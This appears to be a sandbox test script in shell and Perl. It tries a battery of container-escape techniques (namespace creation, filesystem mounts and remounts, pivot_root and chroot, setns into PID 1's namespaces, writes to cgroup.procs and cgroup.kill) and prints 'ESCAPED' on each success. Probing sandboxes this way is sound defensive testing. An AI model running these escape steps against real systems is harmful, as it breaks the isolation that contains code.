# Makes namespaces within, mounts what the sandbox did not, and reaches the caller's cgroup.
perl -I"${0%/*}" -MAttack -e '
attempt("unshare", $_) for 0x10000000, 0x00020000, 0x02000000, 0x40000000, 0x20000000, 0x08000000, 0x04000000, 0x80;
attempt("clone3", pack("Q11", 0x10000000, (0) x 10), 88);
for my $kind (qw(proc sysfs tmpfs cgroup2 cgroup devtmpfs ext4 overlay bpf debugfs mqueue)) {
    attempt("mount", "x", "/tmp", $kind, 0, 0);
}
attempt("mount", "x", "/dev/null", "x", 32 | 4096, 0);
attempt("mount", "x", "/proc/sys", "x", 32 | 4096, 0);
attempt("mount", "/", "/mnt", "x", 4096, 0);
attempt("umount2", $_, 2) for "/proc/sys/net", "/run", "/tmp", "/dev/null", "/";
attempt("open_tree", -100, "/", 1); attempt("fsopen", "tmpfs", 0);
attempt("move_mount", -100, "/tmp", -100, "/mnt", 0); attempt("mount_setattr", -100, "/dev/null", 0, pack("Q4", 0, 1, 0, 0), 32);
attempt("pivot_root", "/tmp", "/tmp"); attempt("chroot", "/tmp");
opendir(my $dir, "/proc/1/ns"); for my $name (readdir $dir) {
    next if $name =~ /^\./;
    open(my $ns, "<", "/proc/1/ns/$name") or refused("open /proc/1/ns/$name"), next;
    attempt("setns", fileno($ns), 0);
}
opendir($dir, "/proc/self/ns"); for my $name (readdir $dir) {
    next if $name =~ /^\./;
    open(my $ns, "<", "/proc/self/ns/$name") or next;
    attempt("setns", fileno($ns), 0);
}'
unshare -Urm true 2>/dev/null && echo "ESCAPED: unshare -Urm"
for file in /sys/fs/cgroup/cgroup.kill /sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/cgroup.procs; do
    echo $$ 2>/dev/null > "$file" && echo "ESCAPED: $file"
done
echo done
